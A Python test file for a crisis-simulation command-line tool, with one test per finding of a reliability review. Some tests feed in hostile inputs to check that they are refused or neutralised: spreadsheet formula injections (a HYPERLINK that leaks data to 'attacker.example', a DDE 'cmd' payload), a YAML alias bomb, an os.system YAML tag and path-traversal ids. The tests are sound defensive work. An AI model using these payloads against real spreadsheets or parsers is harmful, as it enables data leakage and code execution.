"""The reliability review's findings (../shared/reviews/reliability_review.md), one test each.

Findings 6, 8, 9 (the CSVs outside the workshop), 10-14, 16-18 and 22-26; the workshop's
(1-5, 7, 9's session CSVs, 15, 19-21) are tested with the workshop.
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import socket
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest
import yaml

from sim.cli import main
from sim.experiments import store as st
from sim.experiments.jobs import run_job, run_sweep
from sim.inputs.library import SCENARIOS_DIR

ROOT = Path(__file__).resolve().parent.parent
SCEN = SCENARIOS_DIR / "senkaku.yaml"


def one_line_error(capsys) -> str:
    err = capsys.readouterr().err.strip()
    assert err and "\n" not in err and "Traceback" not in err, err
    return err


def scenario_variant(tmp_path: Path, edit=None, text_edit=None, name: str = "s.yaml",
                     base: Path = SCEN) -> Path:
    data = yaml.safe_load(base.read_text())
    if edit:
        edit(data)
    text = yaml.safe_dump(data, sort_keys=False)
    if text_edit:
        text = text_edit(text)
    p = tmp_path / name
    p.write_text(text)
    return p


def files_under(d: Path) -> dict[str, bytes]:
    return {str(p.relative_to(d)): p.read_bytes() for p in sorted(d.rglob("*")) if p.is_file()}


# ============================================================================ 6: one writer per results folder


HOLDER = textwrap.dedent("""
    import sys, time
    from sim.experiments.jobs import run_job
    # a slow job (a pause after every chunk) that holds the folder while the test runs
    run_job(sys.argv[1], 3000, 1, sys.argv[2], chunk_size=500, events=False, jobs=1,
            progress=lambda n: time.sleep(0.7))
""")


def test_finding_06_a_second_writer_is_refused_naming_the_holder(tmp_path, capsys):
    out = tmp_path / "o"
    holder = subprocess.Popen([sys.executable, "-c", HOLDER, str(SCEN), str(out)], stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while not (out / st.JOB_FILE).exists():
            assert holder.poll() is None and time.monotonic() < deadline, holder.stderr.read()
            time.sleep(0.05)
        assert main([str(SCEN), "--runs", "3000", "--seed", "2", "--chunk-size", "500", "--no-events",
                     "--out", str(out), "--quiet", "--jobs", "1"]) == 2
        err = one_line_error(capsys)
        assert "in use by" in err and f"pid {holder.pid} on {socket.gethostname()}" in err, err
        assert holder.wait(120) == 0, holder.stderr.read()
    finally:
        if holder.poll() is None:
            holder.kill()
            holder.wait()
    assert json.loads((out / "manifest.json").read_text())["seed"] == 1
    ref = run_job(SCEN, 3000, 1, tmp_path / "ref", events=False, jobs=1)
    assert (out / "runs.parquet").read_bytes() == (ref.out / "runs.parquet").read_bytes()  # seed 1's rows only
    assert not (out / ".lock").exists()


def test_finding_06_a_stale_lock_of_a_dead_process_is_taken_over(tmp_path):
    out = tmp_path / "o"
    out.mkdir()
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    (out / ".lock").write_text(json.dumps({"pid": dead.pid, "host": socket.gethostname(), "start_ticks": 1,
                                           "started": "2026-01-01T00:00:00+00:00", "command": ["run_sim.py"]}))
    res = run_job(SCEN, 200, 1, out, jobs=1)
    assert res.runs == 200 and not (out / ".lock").exists()


# ============================================================================ 8: manifest must match the parts


def test_finding_08_no_stale_manifest_survives_and_report_refuses_a_mismatch(tmp_path, capsys):
    out = tmp_path / "o"
    run_job(SCEN, 2000, 1, out, chunk_size=500, events=False, jobs=1)
    calls = [0]

    def kill_after_two_chunks(n: int) -> None:
        calls[0] += 1
        if calls[0] >= 2:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):  # the seed-2 job in the same folder, interrupted
        run_job(SCEN, 2000, 2, out, chunk_size=500, events=False, jobs=1, progress=kill_after_two_chunks)
    assert not (out / "manifest.json").exists()  # the seed-1 manifest no longer describes this folder
    assert main(["report", str(out), "--lever-runs", "0", "--out", str(tmp_path / "r.html")]) == 0
    html = (tmp_path / "r.html").read_text()
    assert "1,000 runs" in html or "1000 runs" in html  # the two seed-2 chunks, not 2,000 runs of seed 1
    capsys.readouterr()
    # a folder left so by an older version (or copied together): seed 1's manifest beside seed 2's parts
    job = json.loads((out / st.JOB_FILE).read_text())
    (out / "manifest.json").write_text(json.dumps({"job_id": "earlier", "seed": 1, "runs": 2000}))
    for cmd in (["report", str(out), "--lever-runs", "0", "--out", str(tmp_path / "r2.html")],
                ["compare", str(out), str(out), "--out", str(tmp_path / "c.html")]):
        assert main(cmd) == 2
        assert "manifest.json is from an earlier job" in one_line_error(capsys)
    # and a complete folder whose runs table no longer matches its manifest
    done = run_job(SCEN, 300, 3, tmp_path / "d", events=False, jobs=1).out
    man = json.loads((done / "manifest.json").read_text())
    (done / "manifest.json").write_text(json.dumps({**man, "runs": 400}))
    assert main(["report", str(done), "--lever-runs", "0"]) == 2
    assert "says 400 runs but the runs table holds 300" in one_line_error(capsys)
    assert job["identity"]["seed"] == 2


# ============================================================================ 9: CSV exports are safe to open

FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&P2,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|x",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted", "''=two", "'plain apostrophe", "-0.5"]


def test_finding_09_csv_exports_neutralise_formulas_and_round_trip(tmp_path):
    import copy
    import csv
    import re

    from sim.inputs.loader import load
    from sim.inputs.schema import ScenarioFile

    def titles(d):
        first = next(i for i in d["injects"] if i["kind"] == "scheduled")
        d["injects"] = [{**copy.deepcopy(first), "id": f"F{k}", "title": t} for k, t in enumerate(FORMULAS)]
        d["injects"][0]["controller_note"] = "=1+2"
        d["injects"][1]["text"] = "@risk"

    src = scenario_variant(tmp_path, titles)
    csv_path, back = tmp_path / "m.csv", tmp_path / "back.yaml"
    assert main(["msel", "export", str(src), "--csv", str(csv_path)]) == 0
    with open(csv_path, newline="") as fh:
        rows = list(csv.reader(fh))
    number = re.compile(r"^[-+]?\d+(\.\d*)?$")
    for cell in (c for row in rows for c in row):
        assert not (cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.match(cell)), cell
    expect = [t if t in ("-0.5", "'plain apostrophe") else f"'{t}" for t in FORMULAS]
    assert [row[rows[0].index("Title")] for row in rows[1:]] == expect
    assert main(["msel", "import", str(src), "--csv", str(csv_path), "--out", str(back)]) == 0
    assert load(ScenarioFile, back) == load(ScenarioFile, src)  # lossless, apostrophes and all


def test_finding_09_backtest_csv_is_neutralised(tmp_path):
    cases = yaml.safe_load((ROOT / "validation" / "cases.yaml").read_text())
    case = cases["crises"][0]
    case["id"], case["name"] = '=HYPERLINK("http://x/?"&A1)', "@evil"
    case["scenario"] = str(next(p for p in (ROOT / "validation" / case["scenario"], ROOT / case["scenario"])
                                if p.exists()))
    f = tmp_path / "cases.yaml"
    f.write_text(yaml.safe_dump({"crises": [case]}))
    assert main(["backtest", str(f), "--runs", "20", "--out", str(tmp_path / "bt")]) == 0
    from sim.inputs.safe_csv import restore

    table = pd.read_csv(tmp_path / "bt" / "backtest.csv")
    assert table["case"].iat[0] == "'" + case["id"] and restore(table["case"].iat[0]) == case["id"]
    assert table["skill"].dtype == float  # numbers (negative ones too) stay numbers


# ============================================================================ 10: deep nesting


@pytest.mark.parametrize("text", ["id: " + "[" * 600 + "]" * 600, "id: " + "{a: " * 550 + "1" + "}" * 550,
                                  "".join("  " * i + f"k{i}:\n" for i in range(520)) + "  " * 520 + "v: 1\n"])
def test_finding_10_deep_nesting_is_one_line(tmp_path, capsys, text):
    p = tmp_path / "deep.yaml"
    p.write_text(text)
    assert main(["validate", str(p)]) == 2
    assert "nested more than 64 levels deep" in one_line_error(capsys)
    posture = tmp_path / "p.yaml"  # a posture file, reached through a scenario
    posture.write_text(text.replace("id: ", "actor: "))
    scen = scenario_variant(tmp_path, lambda d: d["actors"][0].update(posture="p.yaml"))
    assert main(["validate", str(scen)]) == 2
    assert "p.yaml" in one_line_error(capsys)
    sweep = tmp_path / "sw.yaml"  # a sweep's set:
    sweep.write_text(f"scenario: {SCEN}\nruns_per_point: 5\nset:\n  summary: {'[' * 600}{']' * 600}\n"
                     "design: {type: factorial, factors: {parameters.fog: [0.1]}}\n")
    assert main(["sweep", str(sweep), "--out", str(tmp_path / "o"), "--quiet"]) == 2
    assert "nested more than" in one_line_error(capsys)


# ============================================================================ 11: seeds


@pytest.mark.parametrize("argv", [
    ["run", str(SCEN), "--runs", "3", "--seed", "-1"],
    ["run", str(SCEN), "--runs", "3", "--seed", str(2**63)],
    ["backtest", str(ROOT / "validation" / "cases.yaml"), "--runs", "3", "--seed", "-1"],
    ["calibration", "--runs", "3", "--seed", str(2**64)],
    ["check-claims", "--runs", "3", "--seed", "-5"],
    ["facilitate", str(SCEN), "--seed", "-1", "--terminal"],
])
def test_finding_11_seeds_outside_the_range_are_one_line_and_nothing_is_written(tmp_path, capsys, argv):
    out = tmp_path / "o"
    argv = [*argv, "--out", str(out)] if argv[0] == "run" else [*argv, "--session", str(out)] \
        if argv[0] == "facilitate" else argv
    assert main(argv) == 2
    assert "seed" in one_line_error(capsys) and not out.exists()


@pytest.mark.parametrize("seed", [-1, 2**63, 2**64, "1"])
def test_finding_11_sweep_seeds_are_checked(tmp_path, capsys, seed):
    for where in ("top", "lhs"):
        sw = {"scenario": str(SCEN), "runs_per_point": 5, "seed": 1,
              "design": {"type": "latin_hypercube", "samples": 2, "factors": {"parameters.fog": [0.1, 0.3]}}}
        (sw if where == "top" else sw["design"])["seed"] = seed
        p = tmp_path / "sw.yaml"
        p.write_text(yaml.safe_dump(sw))
        assert main(["sweep", str(p), "--out", str(tmp_path / "o"), "--quiet"]) == 2
        assert "seed" in one_line_error(capsys) and not (tmp_path / "o").exists()


# ============================================================================ 12: unknown initial_rung


def test_finding_12_unknown_initial_rung(tmp_path, capsys):
    p = scenario_variant(tmp_path, lambda d: d["actors"][0].update(initial_rung="rung99"))
    assert main(["validate", str(p)]) == 2
    assert "actors.0.initial_rung: unknown rung 'rung99'" in one_line_error(capsys)


# ============================================================================ 13: --set follows the file rules

BOMB = "[" + ",".join(["&a0 [x,x,x,x,x,x,x,x,x,x]"] + [f"&a{i} [{','.join([f'*a{i - 1}'] * 10)}]"
                                                       for i in range(1, 10)]) + "]"


def test_finding_13_set_values_follow_the_rules_of_files(tmp_path, capsys):
    base = [str(SCEN), "--runs", "3", "--out", str(tmp_path / "o"), "--quiet"]
    for value, expect in (("&a [*a]", "anchors and aliases"), ("[" * 2000 + "]" * 2000, "nest"),
                          ("!!python/object/apply:os.system ['true']", "tag"), ("x" * 200_000, "longer than"),
                          ("{a: 1, a: 2}", "duplicate key")):
        assert main([*base, "--set", f"levers.0.set.0.value={value}"]) == 2
        assert expect in one_line_error(capsys)
    assert not (tmp_path / "o").exists()


def test_finding_13_an_alias_bomb_in_set_is_refused_at_once(tmp_path):
    import resource

    def limit_memory():
        resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))

    t = time.monotonic()
    r = subprocess.run([sys.executable, str(ROOT / "run_sim.py"), str(SCEN), "--runs", "3", "--out",
                        str(tmp_path / "o"), "--quiet", "--set", f"levers.0.set.0.value={BOMB}"],
                       capture_output=True, text=True, timeout=60, preexec_fn=limit_memory)
    assert r.returncode == 2 and "anchors and aliases" in r.stderr and r.stderr.count("\n") == 1, r.stderr[-500:]
    assert time.monotonic() - t < 30


# ============================================================================ 14: MSEL import


def _exported(tmp_path: Path) -> tuple[Path, list[list[str]]]:
    import csv
    import io

    p = tmp_path / "m.csv"
    assert main(["msel", "export", str(SCEN), "--csv", str(p)]) == 0
    return p, list(csv.reader(io.StringIO(p.read_text())))


def _write_rows(p: Path, rows: list[list[str]]) -> None:
    import csv

    with open(p, "w", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows(rows)


@pytest.mark.parametrize("column,value,expect", [
    ("Condition", "[" * 5000 + "]" * 5000, "nested more than"),
    ("Effects", '{"a": ' * 3000 + "1" + "}" * 3000, "nested more than"),
    ("Description", "x" * 140_000, "longer than 100,000"),
    ("Title", "a\x00b", "control character"),
    ("Move", "\uff11", "not a whole number"),
])
def test_finding_14_bad_msel_cells_are_named(tmp_path, capsys, column, value, expect):
    p, rows = _exported(tmp_path)
    rows[1][rows[0].index(column)] = value
    _write_rows(p, rows)
    capsys.readouterr()
    assert main(["msel", "import", str(SCEN), "--csv", str(p), "--out", str(tmp_path / "new.yaml")]) == 2
    err = one_line_error(capsys)
    assert expect in err and "row 2" in err, err
    assert not (tmp_path / "new.yaml").exists()


@pytest.mark.parametrize("text", ["", "[1, 2]\n", "just a string\n"])
def test_finding_14_msel_import_onto_a_non_scenario(tmp_path, capsys, text):
    p, _ = _exported(tmp_path)
    scen = tmp_path / "empty.yaml"
    scen.write_text(text)
    capsys.readouterr()
    assert main(["msel", "import", str(scen), "--csv", str(p), "--out", str(tmp_path / "new.yaml")]) == 2
    assert "empty.yaml" in one_line_error(capsys)


# ============================================================================ 16: output confined to results/


@pytest.mark.parametrize("sid", ["../../escaped", "/tmp/crisis-sim-absolute-id", "sen\x00kaku", "a/b", ".."])
def test_finding_16_a_scenario_id_cannot_choose_where_output_goes(tmp_path, monkeypatch, capsys, sid):
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    p = scenario_variant(work, lambda d: d.update(id=sid))
    before = sorted(str(x) for x in tmp_path.rglob("*"))
    assert main([str(p), "--runs", "3", "--quiet"]) == 2
    assert "id" in one_line_error(capsys)
    assert sorted(str(x) for x in tmp_path.rglob("*")) == before
    assert not Path("/tmp/crisis-sim-absolute-id-seed0").exists()


def test_finding_16_default_outputs_stay_under_results(tmp_path, monkeypatch):
    from sim.inputs.paths import confined

    monkeypatch.chdir(tmp_path)
    res = run_job(SCEN, 20, 4, jobs=1, events=False)
    assert res.out == Path("results") / "senkaku-seed4"
    sweep = tmp_path / "..weird name;.yaml"
    sweep.write_text(yaml.safe_dump({"scenario": str(SCEN), "runs_per_point": 3, "design": {
        "type": "factorial", "factors": {"parameters.fog": [0.1]}}}))
    assert run_sweep(sweep, jobs=1).out == Path("results") / "sweep-weird_name"
    with pytest.raises(Exception, match="cannot derive"):
        confined("results", "../x")


# ============================================================================ 17: workers die with their parent


def test_finding_17_workers_exit_when_the_parent_is_killed(tmp_path):
    out = tmp_path / "o"
    parent = subprocess.Popen([sys.executable, str(ROOT / "run_sim.py"), str(SCEN), "--runs", "400000", "--jobs", "2",
                               "--no-events", "--quiet", "--out", str(out)], start_new_session=True,
                              stderr=subprocess.DEVNULL)
    kids: list[int] = []
    try:
        deadline = time.monotonic() + 90
        while time.monotonic() < deadline:
            kids = [int(x) for x in subprocess.run(["pgrep", "-P", str(parent.pid)], capture_output=True,
                                                   text=True).stdout.split()]
            if (len(kids) >= 2 and any((out / "runs").glob("part-*"))) or parent.poll() is not None:
                break
            time.sleep(0.2)
        assert parent.poll() is None and len(kids) >= 2, "the job did not start its workers"
        os.kill(parent.pid, signal.SIGKILL)
        parent.wait()
        deadline = time.monotonic() + 15
        alive = kids
        while alive and time.monotonic() < deadline:
            time.sleep(0.2)
            alive = [k for k in kids if Path(f"/proc/{k}").exists() and "zombie" not in
                     Path(f"/proc/{k}/status").read_text(errors="replace").lower()]
        assert not alive, f"orphaned workers still running: {alive}"
    finally:
        for k in kids:
            with contextlib.suppress(ProcessLookupError):
                os.kill(k, signal.SIGKILL)
        if parent.poll() is None:
            parent.kill()


# ============================================================================ 18: every Dask worker gone

DASK_GONE = textwrap.dedent("""
    import logging, sys
    from distributed import Client, LocalCluster
    from sim.experiments.evaluators import DaskEvaluator
    from sim.experiments.jobs import run_job
    cluster = LocalCluster(n_workers=1, threads_per_worker=1, processes=False, dashboard_address=None,
                           silence_logs=logging.ERROR)
    client = Client(cluster)
    done = []
    def progress(n):
        done.append(n)
        if len(done) == 2:
            cluster.scale(0)  # every worker gone
    try:
        run_job(sys.argv[1], 4000, 1, sys.argv[2], evaluator=DaskEvaluator(client=client, lost_timeout=1.0),
                chunk_size=500, events=False, progress=progress)
    except OSError as exc:
        print(exc.strerror)
        sys.exit(1)
""")


def test_finding_18_a_dask_job_whose_workers_are_all_gone_fails_and_can_resume(tmp_path):
    pytest.importorskip("distributed")
    out = tmp_path / "o"
    t = time.monotonic()
    r = subprocess.run([sys.executable, "-c", DASK_GONE, str(SCEN), str(out)], capture_output=True, text=True,
                       timeout=120)
    assert r.returncode == 1 and "no Dask worker for 1 s" in r.stdout, (r.stdout, r.stderr[-2000:])
    assert time.monotonic() - t < 60
    kept = len(list((out / "runs").glob("part-*.parquet")))
    assert kept >= 2
    res = run_job(SCEN, 4000, 1, out, chunk_size=500, events=False, jobs=1, resume=True)
    assert res.chunks_reused >= 2 and res.runs == 4000
    ref = run_job(SCEN, 4000, 1, tmp_path / "ref", chunk_size=500, events=False, jobs=1)
    assert (out / "runs.parquet").read_bytes() == (ref.out / "runs.parquet").read_bytes()


# ============================================================================ 22: unusable output paths are exit 2


@pytest.mark.parametrize("argv", [
    ["backtest", str(ROOT / "validation" / "cases.yaml"), "--runs", "10", "--out", "{f}"],
    ["schema", "--out", "{f}"],
    ["postures", "--markdown", "{f}/x.md"],
    ["msel", "export", str(SCEN), "--csv", "{d}"],
    ["msel", "export", str(SCEN), "--csv", "{d}/missing/x.csv"],
    ["msel", "import", str(SCEN), "--csv", "{csv}", "--out", "{d}"],
    ["msel", "import", str(SCEN), "--csv", "{csv}", "--out", "{d}/missing/x.yaml"],
    ["run", str(SCEN), "--runs", "3", "--overlay", "x" * 5000, "--out", "{d}/o"],
    ["facilitate", str(SCEN), "--session", "{f}", "--terminal"],
    ["check-claims", "--runs", "10", "--markdown", "{f}/x.md"],
    ["calibration", "--runs", "10", "--markdown", "{f}/x.md"],
    ["report", "{results}", "--out", "{d}"],
])
def test_finding_22_unusable_output_paths_are_exit_2_before_any_work(tmp_path, capsys, argv):
    f = tmp_path / "afile"
    f.write_text("x")
    if "{csv}" in argv:
        _exported(tmp_path)  # a good MSEL: only --out is wrong
    if "{results}" in argv:
        run_job(SCEN, 30, 1, tmp_path / "res", jobs=1)
    argv = [a.replace("{f}", str(f)).replace("{d}", str(tmp_path)).replace("{csv}", str(tmp_path / "m.csv"))
            .replace("{results}", str(tmp_path / "res")) for a in argv]
    capsys.readouterr()
    t = time.monotonic()
    assert main(argv) == 2
    one_line_error(capsys)
    assert time.monotonic() - t < 20  # refused before computing (check-claims, backtest)


@pytest.mark.parametrize("argv", [
    ["run", str(SCEN), "--runs", "3", "--quiet", "--out", "{ro}/o"],
    ["sweep", str(ROOT / "sweeps" / "senkaku_lhs.yaml"), "--quiet", "--out", "{ro}/o"],
    ["backtest", str(ROOT / "validation" / "cases.yaml"), "--runs", "10", "--out", "{ro}/bt"],
    ["schema", "--out", "{ro}/s"],
    ["postures", "--markdown", "{ro}/p.md"],
    ["msel", "export", str(SCEN), "--csv", "{ro}/m.csv"],
    ["check-claims", "--runs", "10", "--markdown", "{ro}/c.md"],
])
def test_finding_22_a_read_only_location_is_exit_2(tmp_path, capsys, argv, monkeypatch):
    """A read-only mount (or any directory where no file can be created) is refused up front."""
    import tempfile

    ro = tmp_path / "ro"
    ro.mkdir()
    real = tempfile.mkstemp

    def mkstemp(*a, dir=None, **k):
        if dir is not None and Path(dir).resolve() == ro.resolve():
            raise OSError(30, "Read-only file system")
        return real(*a, dir=dir, **k)

    monkeypatch.setattr(tempfile, "mkstemp", mkstemp)
    assert main([a.replace("{ro}", str(ro)) for a in argv]) == 2
    assert "not writable" in one_line_error(capsys)
    assert list(ro.iterdir()) == []


# ============================================================================ 23: no silent acceptance


@pytest.mark.parametrize("edit,expect", [
    (lambda t: t + "turns: {max: 3, hours: 24}\n", "duplicate key 'turns'"),
    (lambda t: t.replace("turns: {max: 30,", "turns: {max: 1:30,"), "turns.max"),
    (lambda t: t.replace("turns: {max: 30,", "turns: {max: 036,"), "ambiguous number 036"),
    (lambda t: t.replace("  fog: 0.15", "  fog: 0.15\n  fog: 0.2"), "duplicate key 'fog'"),
])
def test_finding_23_duplicate_keys_and_yaml_11_numbers_are_refused(tmp_path, capsys, edit, expect):
    text = SCEN.read_text()
    assert "turns: {max: 30," in text and "  fog: 0.15" in text
    p = tmp_path / "s.yaml"
    p.write_text(edit(text))
    assert main(["describe", str(p)]) == 2
    assert expect in one_line_error(capsys)


@pytest.mark.parametrize("edit,expect", [
    (lambda d: d.update(common_random_numbers="no"), "common_random_numbers"),
    (lambda d: d.update(seed="1"), "seed"),
    (lambda d: d.update(runs_per_point="5"), "runs_per_point"),
])
def test_finding_23_sweep_files_are_strictly_typed(tmp_path, capsys, edit, expect):
    sw = {"scenario": str(SCEN), "runs_per_point": 5, "seed": 1,
          "design": {"type": "factorial", "factors": {"parameters.fog": [0.1, 0.2]}}}
    edit(sw)
    p = tmp_path / "sw.yaml"
    p.write_text(yaml.safe_dump(sw))
    assert main(["sweep", str(p), "--out", str(tmp_path / "o"), "--quiet"]) == 2
    assert expect in one_line_error(capsys)


@pytest.mark.parametrize("setting,expect", [
    ({"path": "parameters.fog", "value": float("nan")}, "levers.0 (coast_guard_rules): parameters.fog"),
    ({"path": "parameters.fog", "value": 7.0}, "levers.0 (coast_guard_rules): parameters.fog"),
    ({"path": "parameters.nonexistent", "value": 1}, "levers.0 (coast_guard_rules): parameters.nonexistent"),
    ({"path": "turns.max.deeper", "value": 1}, "levers.0 (coast_guard_rules)"),
])
def test_finding_23_validate_compiles_every_lever(tmp_path, capsys, setting, expect):
    p = scenario_variant(tmp_path, lambda d: d["levers"][0]["set"].append(setting))
    assert main(["validate", str(p)]) == 2
    assert expect in one_line_error(capsys)


def test_finding_23_nul_in_msel_cells(tmp_path, capsys):
    p, rows = _exported(tmp_path)
    rows[2][rows[0].index("Controller Note")] = "x\x00y"
    _write_rows(p, rows)
    capsys.readouterr()
    assert main(["msel", "import", str(SCEN), "--csv", str(p), "--out", str(tmp_path / "n.yaml")]) == 2
    assert "control character" in one_line_error(capsys)


# ============================================================================ 24: a malformed --scheduler


@pytest.mark.parametrize("address", ["not a url", "tcp://host", "host:99999", "tcp://:8786"])
def test_finding_24_malformed_scheduler_address(tmp_path, capsys, address):
    assert main([str(SCEN), "--runs", "3", "--out", str(tmp_path / "o"), "--quiet", "--backend", "dask",
                 "--scheduler", address]) == 2
    assert "--scheduler" in one_line_error(capsys) and not (tmp_path / "o").exists()


# ============================================================================ 25: corrupt results folders


@pytest.mark.parametrize("damage", ["garbage", "truncated", "empty", "thrift"])
def test_finding_25_report_and_compare_on_a_corrupt_results_folder(tmp_path, capsys, damage):
    good = run_job(SCEN, 50, 1, tmp_path / "good", jobs=1).out
    bad = tmp_path / "g"
    bad.mkdir()
    data = (good / "runs.parquet").read_bytes()
    (bad / "runs.parquet").write_bytes({"garbage": b"garbage\n", "truncated": data[: len(data) // 2], "empty": b"",
                                        "thrift": b"PAR1" + b"\x00" * 100 + b"PAR1"}[damage])
    (bad / "manifest.json").write_text("{}")
    for argv in (["report", str(bad)], ["compare", str(good), str(bad), "--out", str(tmp_path / "c.html")]):
        assert main(argv) == 2
        assert "runs.parquet" in one_line_error(capsys)


# ============================================================================ 26: large sweeps of small points


def test_finding_26_small_points_share_parts_and_give_the_same_bytes(tmp_path, monkeypatch):
    sweep = {"scenario": str(SCEN), "runs_per_point": 1, "seed": 1, "events": True,
             "design": {"type": "factorial",
                        "factors": {"parameters.us_china_climate": [i / 100 for i in range(-15, 15)],
                                    "levers": [[], ["cooperative_frame"]]}}}
    written = []
    real = st.Store.write_chunk
    monkeypatch.setattr(st.Store, "write_chunk", lambda self, c, parts: (written.append(c), real(self, c, parts)))
    res = run_sweep(sweep, tmp_path / "packed", jobs=1)
    assert res.runs == 60 and len(written) <= 8, len(written)  # not 60 parts (and 60 fsyncs per table)
    monkeypatch.setattr(st.Store, "write_chunk", real)
    one_per_point = run_sweep(sweep, tmp_path / "one", jobs=1, chunk_size=1)
    for f in ("runs.parquet", "events.parquet", "injects.parquet", "design.parquet"):
        assert (res.out / f).read_bytes() == (one_per_point.out / f).read_bytes(), f


def test_finding_26_packing_unites_differing_points_like_consolidation(tmp_path):
    """Points whose tables differ (a lever adds a column, other categories) packed into one part
    consolidate to exactly the bytes of one part per point."""
    import numpy as np

    def table(point, n, extra=False, cats=("a", "b", "c")):
        df = pd.DataFrame({"point": np.full(n, point, np.int32), "run": np.arange(n),
                           "outcome": pd.Categorical.from_codes(np.arange(n) % len(cats), list(cats))})
        if extra:
            df["tried_x"] = np.int16(1)
        return pa.Table.from_pandas(df, preserve_index=False)

    tables = [table(0, 3), table(1, 3, extra=True), table(2, 3, cats=("d", "a")), table(3, 3), table(4, 3, True)]
    for name, groups in (("one", [[t] for t in tables]), ("packed", [tables[:2], tables[2:4], tables[4:]]),
                         ("packed2", [tables[:3], tables[3:]])):
        paths = []
        for i, g in enumerate(groups):
            p = tmp_path / f"{name}-{i}.parquet"
            p.write_bytes(st.parquet_bytes(g[0] if len(g) == 1 else st.combine_tables(g)))
            paths.append(p)
        st.concat_parts(paths, tmp_path / f"{name}.parquet")
    ref = (tmp_path / "one.parquet").read_bytes()
    assert (tmp_path / "packed.parquet").read_bytes() == ref
    assert (tmp_path / "packed2.parquet").read_bytes() == ref
